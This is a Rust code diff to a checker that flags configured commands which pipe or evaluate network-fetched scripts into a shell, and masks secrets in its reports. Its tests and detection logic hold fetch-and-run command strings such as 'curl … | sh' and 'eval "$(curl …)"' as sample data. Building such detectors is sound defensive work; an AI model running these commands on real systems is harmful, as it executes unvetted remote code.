@@ -3,6 +3,7 @@
 use super::Runs;
 use crate::doctor::Check;
 use crate::doctor::finding::{Finding, excerpt};
+use crate::protocol::mask;
 
 pub(super) const CHECKS: &[Check<Runs>] = &[Check {
     id: "stdio-command",
@@ -78,11 +79,11 @@ fn judge(program: &str, args: &[String]) -> Finding {
         if runs_what_it_fetches(script) {
             return Finding::fail(format!(
                 "it runs what comes from the network: {}",
-                excerpt(script)
+                shown(script)
             ));
         }
         if script.contains(['|', ';', '&', '$', '`', '>', '<']) {
-            return Finding::warn(format!("a shell reads it: {}", excerpt(script)));
+            return Finding::warn(format!("a shell reads it: {}", shown(script)));
         }
     }
     if RAISERS.contains(&program) {
@@ -97,6 +98,11 @@ fn judge(program: &str, args: &[String]) -> Finding {
     }
 }
 
+/// A script without what looks like a secret in it.
+fn shown(script: &str) -> String {
+    excerpt(&mask::command(script.split_whitespace()).join(" "))
+}
+
 /// Whether a script hands what comes from the network to a shell: `curl … | sh`, `sh <(curl …)`.
 fn runs_what_it_fetches(script: &str) -> bool {
     let fetches = |text: &str| ["curl ", "wget "].iter().any(|it| text.contains(it));
@@ -107,7 +113,10 @@ fn runs_what_it_fetches(script: &str) -> bool {
     let piped = script
         .split_once('|')
         .is_some_and(|(before, after)| fetches(before) && after.split('|').any(is_shell));
-    piped || script.split("<(").skip(1).any(fetches)
+    // `sh -c "$(curl …)"` is nothing but what comes.
+    let begins = script.trim_start().trim_start_matches("eval ").trim_start_matches('"');
+    let is_all = begins.starts_with("$(") || begins.starts_with('`');
+    piped || script.split("<(").skip(1).any(fetches) || is_all && fetches(begins)
 }
 
 /// The package that such a program is to fetch.
@@ -157,6 +166,13 @@ mod tests {
     use crate::doctor::Verdict;
 
     #[test]
+    fn secrets_of_a_script_are_not_shown() {
+        let args = ["-c", "TOKEN=hunter2-hunter2 server > log"].map(str::to_owned);
+        let found = judge("sh", &args);
+        assert_eq!(found.evidence, "a shell reads it: TOKEN=*** server > log");
+    }
+
+    #[test]
     fn commands_are_judged_by_what_they_run() {
         let check = |line: &[&str], expected: Verdict| {
             let args: Vec<String> = line[1..].iter().map(|it| (*it).to_owned()).collect();
@@ -197,6 +213,9 @@ mod tests {
         check(&["bash", "-c", "curl https://e.example/i | sh"], Verdict::Fail);
         check(&["bash", "-c", "wget -qO- https://e.example/i |sudo /bin/bash -s x"], Verdict::Fail);
         check(&["bash", "-c", "bash <(curl -s https://e.example/i)"], Verdict::Fail);
+        check(&["bash", "-c", "$(curl -fsSL https://e.example/i)"], Verdict::Fail);
+        check(&["bash", "-c", "eval \"$(curl -fsSL https://e.example/i)\""], Verdict::Fail);
+        check(&["bash", "-c", "server --token $(curl http://127.0.0.1/t)"], Verdict::Warn);
         check(&["bash", "-c", "curl https://e.example/i | shasum"], Verdict::Warn);
         check(&["bash", "-c", "curl https://e.example/i > a; sh b"], Verdict::Warn);
     }
